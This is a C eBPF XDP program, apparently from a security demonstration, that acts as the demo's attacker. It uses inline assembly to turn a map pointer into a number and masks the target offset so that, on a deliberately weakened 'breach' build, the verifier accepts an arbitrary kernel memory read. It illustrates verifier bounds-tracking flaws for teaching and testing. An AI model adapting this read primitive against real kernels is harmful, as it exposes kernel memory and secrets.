// SPDX-License-Identifier: GPL-2.0
/*
 * A program that the verifier accepts and that reads any kernel address: the
 * demo's attacker. It works only with the breach build of the module, which
 * drops every `rX &= 0`, so that the verifier believes 0 while the register
 * holds any value, as in the bounds-tracking CVEs. On every other kernel the
 * offset is 0 and the program reads its own map.
 */
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>

struct plan {
	__u64 target; /* the address to read, written by user space */
	__u64 self;   /* where this value lies */
	__u64 loot;   /* what was read */
	__u64 done;   /* how often the program got past the read */
};

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct plan);
} plan SEC(".maps");

SEC("xdp")
int breach_demo(struct xdp_md *ctx)
{
	struct plan *p;
	__u32 key = 0;
	__u64 loot;

	p = bpf_map_lookup_elem(&plan, &key);
	if (!p)
		return XDP_PASS;
	/*
	 * The way through the map turns the pointer into a number; the distance
	 * to the target is any number, and "&= 0" tells the verifier it is 0.
	 * Written in assembly, since a compiler would fold it.
	 */
	asm volatile("*(u64 *)(%[p] + 8) = %[p];"
		     "r1 = *(u64 *)(%[p] + 8);"
		     "r2 = *(u64 *)(%[p] + 0);"
		     "r2 -= r1;"
		     "r2 &= 0;"
		     "r3 = %[p];"
		     "r3 += r2;"
		     "%[loot] = *(u64 *)(r3 + 0);"
		     : [loot] "=r"(loot)
		     : [p] "r"(p)
		     : "r1", "r2", "r3", "memory");
	p->loot = loot;
	p->done++;
	return XDP_PASS;
}

char _license[] SEC("license") = "GPL";
